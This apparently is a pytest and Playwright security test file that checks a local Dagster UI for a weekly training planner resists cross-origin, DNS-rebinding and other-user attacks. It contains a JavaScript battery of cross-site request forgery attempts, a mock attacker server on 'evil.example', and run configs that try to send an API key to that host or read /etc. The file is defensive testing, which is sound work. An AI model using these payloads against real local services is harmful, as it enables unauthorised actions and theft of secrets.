"""While the UI runs, no web page and no other user starts, changes or reads anything through it.

Pages of other origins are opened in Chromium, other users are real ones, and a port of this machine
waits for what a thief would be sent.
"""

import json
import os
import stat
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import psutil
import pytest
from playwright.sync_api import Browser, Page, expect

from weekly_plan_assets.common.private_folder import private_folder
from weekly_plan_assets.storage.connection import open_client
from weekly_plan_assets.webserver.access import kept_secret
from weekly_plan_assets_tests.support.dagster_ui import DagsterUi, own_webserver, weekly_plan_dev
from weekly_plan_assets_tests.support.graph import activity, wellness_day, write_export
from weekly_plan_assets_tests.support.openai_server import MODEL_ID, Reply, openai_server
from weekly_plan_assets_tests.support.other_user import as_nobody
from weekly_plan_assets_tests.support.terminal import Terminal
from weekly_plan_assets_tests.ui.conftest import WAIT_MS, chromium

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

WEEK = "2024-01-08"
NAME = "evil.example"
"""Resolved to this machine by the browser of these tests, as by an attacker's name server."""

LINKS = f"https://{NAME}/a www.{NAME} me@{NAME} <https://{NAME}/b> [x](https://{NAME}/c)"
"""What an activity may be called; the UI makes links of some of it in markdown."""

SELECTOR = (
    '{repositoryLocationName: "weekly_plan_assets", repositoryName: "__repository__", '
    'jobName: "close_week"}'
)
PARTITION = '{tags: [{key: "dagster/partition", value: "2024-01-08"}]}'
LAUNCH = (
    f"mutation {{ launchRun(executionParams: {{selector: {SELECTOR}, "
    f'mode: "default", executionMetadata: {PARTITION}}}) {{ __typename }} }}'
)
LAUNCH_WITH_CONFIG = """
mutation ($params: ExecutionParams!) {
  launchRun(executionParams: $params) {
    __typename ... on RunConfigValidationInvalid { errors { message } }
  }
}"""
ATTACK = """
async ([ui, launch, read]) => {
  const post = body => ({method: "POST", body});
  const json = JSON.stringify({query: launch});
  const outcomes = {};
  const attempt = async (name, act) => {
    try { outcomes[name] = String(await act()); } catch (error) { outcomes[name] = "nothing"; }
  };
  const element = (tag, set) => new Promise(done => {
    const one = document.createElement(tag);
    one.onload = () => done("loaded");
    one.onerror = () => done("nothing");
    set(one);
    document.body.append(one);
    setTimeout(() => done("nothing"), 3000);
  });
  const form = (action, enctype, name, value) => element("iframe", frame => {
    frame.name = "f" + Math.random();
    const one = document.createElement("form");
    Object.assign(one, {action, enctype, method: "POST", target: frame.name});
    const field = document.createElement("input");
    Object.assign(field, {name, value});
    one.append(field);
    document.body.append(frame, one);
    setTimeout(() => one.submit(), 100);
  });
  const get = `${ui}/graphql?query=${encodeURIComponent(launch)}`;
  await attempt("image", () => element("img", one => { one.src = get; }));
  await attempt("script", () => element("script", one => { one.src = `${ui}/server_info`; }));
  await attempt("style", () => element("link", one => { one.rel = "stylesheet"; one.href = get; }));
  await form(`${ui}/graphql`, "text/plain", `{"query": ${JSON.stringify(launch)}, "x": "`, '"}');
  await form(get, "application/x-www-form-urlencoded", "a", "b");
  await form(get, "multipart/form-data", "operations", json);
  await attempt("no-cors", async () =>
    (await fetch(`${ui}/graphql`, {...post(json), mode: "no-cors"})).type);
  await attempt("no-cors, as if JSON", async () => (await fetch(`${ui}/graphql`, {
    ...post(json), mode: "no-cors", headers: {"Content-Type": "text/plain; application/json"},
  })).type);
  await attempt("blob", async () => (await fetch(get, {
    ...post(new Blob([json])), mode: "no-cors",
  })).type);
  navigator.sendBeacon(`${ui}/graphql`, new Blob([json], {type: "text/plain"}));
  await attempt("cors GET", async () => (await fetch(get)).text());
  await attempt("cors POST", async () => (await fetch(`${ui}/graphql`, post(json))).text());
  await attempt("JSON", async () => (await fetch(`${ui}/graphql`, {
    ...post(JSON.stringify({query: read})), headers: {"Content-Type": "application/json"},
  })).text());
  await attempt("with credentials", async () =>
    (await fetch(`${ui}/server_info`, {credentials: "include"})).text());
  await attempt("websocket", () => new Promise((done, fail) => {
    const one = new WebSocket(`${ui.replace("http", "ws")}/graphql`, "graphql-ws");
    one.onopen = () => done("opened");
    one.onerror = () => fail();
  }));
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    await new Promise(done => {
      frame.onload = done;
      frame.src = ui;
      document.body.append(frame);
      setTimeout(done, 3000);
    });
    return frame.contentDocument ? frame.contentDocument.body.innerText : "nothing";
  });
  return outcomes;
}
"""
SILENT = {"nothing", "opaque"}
"""An opaque response is one whose status and content the page is not told."""


class Recorder(ThreadingHTTPServer):
    """A server of an attacker: an empty page at every path, and a note of who asked."""

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), self._handler())
        self.port = self.server_address[1]
        Thread(target=self.serve_forever, daemon=True).start()

    def _handler(self) -> type[BaseHTTPRequestHandler]:
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorder.asked.append(f"{self.path} {self.headers.get('Authorization')}")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                if self.path == "/sandboxed":
                    self.send_header("Content-Security-Policy", "sandbox allow-scripts allow-forms")
                self.end_headers()
                self.wfile.write(b"<!doctype html><body></body>")

            def log_message(self, *_: object) -> None:
                """Be silent."""

        return Handler


@pytest.fixture(scope="module")
def evil() -> Iterator[Recorder]:
    server = Recorder()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def athlete(mongo_url: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Terminal]:
    """An athlete with a folder, and keys in the environment."""
    folder = tmp_path_factory.mktemp("doors")
    (folder / "export").mkdir()
    rows = [activity("1", f"{WEEK}T07:00:00", name=LINKS)]
    write_export(folder / "export", rows, [wellness_day(WEEK, comments=LINKS)])
    (folder / "athlete.yaml").write_text(
        json.dumps(
            {"races": [{"date": "2024-02-10", "name": LINKS[:40], "sport": "Run", "priority": "A"}]}
        )
    )
    name = f"test_{uuid4().hex[:12]}"
    yield Terminal(
        {
            "MONGO_URL": mongo_url,
            "MONGO_DATABASE": name,
            "WEEKLY_PLAN_EXPORT_DIR": str(folder / "export"),
            "WEEKLY_PLAN_STATE_DIR": str(folder / "state"),
            "WEEKLY_PLAN_ATHLETE": str(folder / "athlete.yaml"),
            "OPENAI_API_KEY": "sk-planted",
        }
    )
    with open_client(mongo_url) as client:
        client.drop_database(name)


@pytest.fixture(scope="module")
def ui(athlete: Terminal, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DagsterUi]:
    with weekly_plan_dev(athlete.environment, tmp_path_factory.mktemp("dev") / "log") as ui:
        yield ui


@pytest.fixture(scope="module")
def attacked() -> Iterator[Browser]:
    """A browser for which the attacker's name is this machine."""
    with chromium(f"--host-resolver-rules=MAP {NAME} 127.0.0.1") as browser:
        yield browser


@pytest.fixture
def page(attacked: Browser) -> Iterator[Page]:
    page = attacked.new_page()
    yield page
    page.close()


def launched(ui: DagsterUi, query: str, **variables: Any) -> str:
    return str(ui.ask(query, **variables)["launchRun"]["__typename"])


@pytest.mark.parametrize("host", [NAME, "localhost", "127.0.0.1"])
def test_a_page_of_another_origin_starts_reads_and_opens_nothing(
    page: Page, ui: DagsterUi, evil: Recorder, host: str
) -> None:
    before = set(ui.runs())
    page.goto(f"http://{host}:{evil.port}/")
    for address in (ui.url, ui.url.replace("127.0.0.1", "localhost")):
        outcomes = page.evaluate(ATTACK, [address, LAUNCH, "{ runsOrError { __typename } }"])
        assert set(ui.runs()) == before
        assert set(outcomes.values()) <= SILENT, outcomes


def test_a_page_without_an_origin_starts_and_reads_nothing(
    page: Page, ui: DagsterUi, evil: Recorder
) -> None:
    before = set(ui.runs())
    page.goto(f"http://{NAME}:{evil.port}/sandboxed")
    assert page.evaluate("origin") == "null"
    outcomes = page.evaluate(ATTACK, [ui.url, LAUNCH, "{ runsOrError { __typename } }"])
    assert set(ui.runs()) == before
    assert set(outcomes.values()) <= SILENT, outcomes


def test_a_name_that_is_bound_to_this_machine_later_is_refused(page: Page, ui: DagsterUi) -> None:
    rebound = ui.url.replace("127.0.0.1", NAME)
    answer = page.goto(rebound)
    assert answer is not None
    assert answer.status == 403
    asked = """
    async query => (await fetch("/graphql", {
      method: "POST", body: JSON.stringify({query}),
      headers: {"Content-Type": "application/json"},
    })).status
    """
    before = set(ui.runs())
    assert page.evaluate(asked, LAUNCH) == 403
    assert set(ui.runs()) == before


def test_a_click_on_another_site_does_not_open_the_ui(
    page: Page, ui: DagsterUi, evil: Recorder
) -> None:
    page.goto(f"http://{NAME}:{evil.port}/")
    page.evaluate("address => { location.href = address }", f"{ui.url}/download_debug/x")
    expect(page.get_by_text("comes from another web site")).to_be_visible()


def test_the_same_request_of_the_ui_itself_is_served(page: Page, ui: DagsterUi) -> None:
    page.goto(ui.url)
    expect(page.get_by_role("link", name="Catalog")).to_be_visible()
    before = len(ui.runs())
    asked = """
    async query => (await fetch("/graphql", {
      method: "POST", body: JSON.stringify({query}),
      headers: {"Content-Type": "application/json"},
    })).json()
    """
    answer = page.evaluate(asked, LAUNCH)
    assert answer["data"]["launchRun"]["__typename"] == "LaunchRunSuccess"
    assert len(ui.runs()) == before + 1
    opened = """
    () => new Promise((done, fail) => {
      const one = new WebSocket(`ws://${location.host}/graphql`, "graphql-ws");
      one.onopen = () => done("opened");
      one.onerror = () => fail("refused");
    })
    """
    assert page.evaluate(opened) == "opened"


@pytest.mark.parametrize(
    "resources",
    [
        {"source": {"name": "INTERVALS", "timezone": "UTC", "intervals_base_url": "{thief}"}},
        {
            "source": {
                "name": "INTERVALS",
                "timezone": "UTC",
                "intervals_api_key": {"env": "OPENAI_API_KEY"},
                "intervals_base_url": "{thief}",
            }
        },
        {"source": {"name": "FOLDER", "timezone": "UTC", "export_dir": "/etc"}},
        {"mongo": {"url": "mongodb://127.0.0.1:{port}", "database_name": "any"}},
        {"planner": {"max_attempts": {"env": "OPENAI_API_KEY"}}},
    ],
    ids=str,
)
def test_a_run_whose_config_names_keys_addresses_or_paths_is_refused_and_a_thief_gets_nothing(
    ui: DagsterUi, evil: Recorder, resources: dict[str, Any]
) -> None:
    evil.asked.clear()
    before = set(ui.runs())
    text = json.dumps({name: {"config": config} for name, config in resources.items()})
    address = f"http://127.0.0.1:{evil.port}"
    filled = text.replace("{thief}", address).replace("{port}", str(evil.port))
    params = {
        "selector": {
            "repositoryLocationName": "weekly_plan_assets",
            "repositoryName": "__repository__",
            "jobName": "close_week",
        },
        "runConfigData": json.dumps({"resources": json.loads(filled)}),
        "executionMetadata": {"tags": [{"key": "dagster/partition", "value": WEEK}]},
        "mode": "default",
    }
    answer = ui.ask(LAUNCH_WITH_CONFIG, params=params)["launchRun"]
    assert answer["__typename"] == "RunConfigValidationInvalid"
    assert "sk-planted" not in json.dumps(answer)
    assert set(ui.runs()) == before
    assert evil.asked == []


def test_what_an_athlete_wrote_becomes_no_link_on_any_page(
    page: Page, ui: DagsterUi, athlete: Terminal
) -> None:
    done = athlete.run("run", "--week", WEEK)
    assert done.returncode == 0, done.stderr
    page.set_viewport_size({"width": 1600, "height": 1200})
    # A plan's own texts leave out a name that holds a link.
    shown = {"activities": f"https://{NAME}/a", "plan": "the race of the day"}
    for asset, text in shown.items():
        page.goto(f"{ui.url}/assets/{asset}?view=partitions&partition={WEEK}")
        expect(page.get_by_text(text).first).to_be_visible(timeout=WAIT_MS)
        assert page.locator(f"a[href*='{NAME}']").count() == 0, asset


def test_what_a_model_wrote_becomes_no_link_in_the_check_that_refuses_it(
    page: Page, ui: DagsterUi, athlete: Terminal
) -> None:
    with openai_server(Reply(json.dumps({LINKS: LINKS}))) as model:
        refused = athlete.run(
            *("run", "--week", WEEK),
            **model.environment,
            WEEKLY_PLAN_MODEL=MODEL_ID,
            WEEKLY_PLAN_MAX_ATTEMPTS="1",
        )
    assert f"https://{NAME}/a" in "".join(refused.stderr.split("\n"))
    page.goto(f"{ui.url}/assets/artifacts?view=checks&checkDetail=plan_is_valid")
    expect(page.get_by_text("no attempt was valid").first).to_be_visible(timeout=WAIT_MS)
    assert page.get_by_text(f"www\u2060.{NAME}").count()
    assert page.locator(f"a[href*='{NAME}']").count() == 0


ASK = """
import sys, urllib.error, urllib.request
address, query, *headers = sys.argv[1:]
request = urllib.request.Request(address, query.encode() if query else None)
for header in headers:
    request.add_header(*header.split(": ", 1))
try:
    with urllib.request.urlopen(request, timeout=20) as answer:
        print(answer.status, answer.read(2000))
except urllib.error.HTTPError as error:
    print(error.code)
"""


def test_another_user_of_the_machine_starts_and_reads_nothing(ui: DagsterUi) -> None:
    before = set(ui.runs())
    query = json.dumps({"query": LAUNCH})
    own = [
        "Content-Type: application/json",
        f"Host: 127.0.0.1:{ui.port}",
        f"Origin: {ui.url}",
        "Sec-Fetch-Site: same-origin",
        "X-Forwarded-For: 127.0.0.1",
    ]
    for address in (ui.url, ui.url.replace("127.0.0.1", "[::1]")):
        assert as_nobody(ASK, f"{address}/graphql", query, *own) == "403"
        assert as_nobody(ASK, f"{address}/graphql?query={quote(LAUNCH)}", "") == "403"
        for path in ("/", "/server_info", "/favicon.png", "/download_debug/x", "/logs/a/b/c.out"):
            assert as_nobody(ASK, f"{address}{path}", "", *own[1:]) == "403"
    assert set(ui.runs()) == before


@pytest.fixture(scope="module")
def linked(athlete: Terminal, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DagsterUi]:
    """The webserver alone, opened by its secret link."""
    state = Path(athlete.environment["WEEKLY_PLAN_STATE_DIR"])
    secret = kept_secret(private_folder(state / "webserver"))
    environment = {**athlete.environment, "WEEKLY_PLAN_UI_LINK": "true"}
    log = tmp_path_factory.mktemp("linked") / "log"
    with own_webserver(environment, log, f"/{secret}") as ui:
        assert f"Dagster UI: {ui.url}" in log.read_text()
        yield ui


def test_behind_the_secret_link_the_ui_works_and_without_it_nothing_does(
    page: Page, linked: DagsterUi
) -> None:
    page.goto(f"{linked.url}/")
    expect(page.get_by_role("link", name="Catalog")).to_be_visible(timeout=WAIT_MS)
    page.get_by_role("link", name="Jobs").click()
    expect(page.locator("a[href$='/jobs/weekly_plan']")).to_be_visible(timeout=WAIT_MS)
    secret = linked.url.rpartition("/")[2]
    for path in ("", "/", "/graphql", "/server_info", f"/{secret[:-1]}/", "/%2e/", f"//{secret}/"):
        answer = as_nobody(ASK, f"http://127.0.0.1:{linked.port}{path}", "")
        assert answer == "403", path
    refused = page.request.get(f"http://127.0.0.1:{linked.port}/", max_redirects=0)
    assert refused.status == 403
    assert secret not in refused.text() + json.dumps(refused.headers)


def test_a_page_of_another_origin_cannot_use_the_link_even_if_it_knows_it(
    page: Page, linked: DagsterUi, evil: Recorder
) -> None:
    before = set(linked.runs())
    page.goto(f"http://{NAME}:{evil.port}/")
    outcomes = page.evaluate(ATTACK, [linked.url, LAUNCH, "{ runsOrError { __typename } }"])
    assert set(linked.runs()) == before
    assert set(outcomes.values()) <= SILENT, outcomes


def test_the_secret_of_the_link_is_in_no_command_line(linked: DagsterUi) -> None:
    secret = linked.url.rpartition("/")[2]
    for process in psutil.process_iter(["cmdline"]):
        assert secret not in " ".join(process.info["cmdline"] or [])


CONNECT = """
import socket, sys
for path in sys.argv[1:]:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print(path)
    except OSError:
        pass
"""
READ = """
import os, sys
for folder, _, files in os.walk(sys.argv[1]):
    for name in files:
        path = os.path.join(folder, name)
        if os.access(path, os.R_OK):
            print(path)
"""


def processes_of(environment: dict[str, str]) -> list[psutil.Process]:
    """What `dev` has started, known by its state folder; not the webserver of the link."""
    wanted = (environment["WEEKLY_PLAN_STATE_DIR"], None)
    names = ("WEEKLY_PLAN_STATE_DIR", "WEEKLY_PLAN_UI_LINK")
    found = []
    for process in psutil.process_iter():
        try:
            if tuple(map(process.environ().get, names)) == wanted:
                found.append(process)
        except psutil.Error:
            continue
    return found


def test_nothing_that_dev_opens_can_be_used_by_another_user(
    ui: DagsterUi, athlete: Terminal
) -> None:
    family = processes_of(athlete.environment)
    assert len(family) > 2
    tcp = {
        one.laddr.port
        for process in family
        for one in process.net_connections("inet")
        if one.status == psutil.CONN_LISTEN
    }
    assert tcp == {ui.port}
    sockets = sorted(
        {str(one.laddr) for process in family for one in process.net_connections("unix")}
        - {"", "None"}
    )
    assert sockets, "the code server listens somewhere"
    assert as_nobody(CONNECT, *sockets) == ""


def test_another_user_reads_no_file_of_the_state(ui: DagsterUi, athlete: Terminal) -> None:
    assert ui.runs() is not None
    state = Path(athlete.environment["WEEKLY_PLAN_STATE_DIR"])
    # The folders above are open, so that it is the state folder that keeps others out.
    for folder in (state.parent, state.parent.parent, state.parent.parent.parent):
        folder.chmod(0o755)
    assert as_nobody(READ, str(state)) == ""
    assert stat.S_IMODE(state.stat().st_mode) == 0o700
    for parent, folders, files in os.walk(state):
        for path in (Path(parent, name) for name in (*folders, *files)):
            assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, path
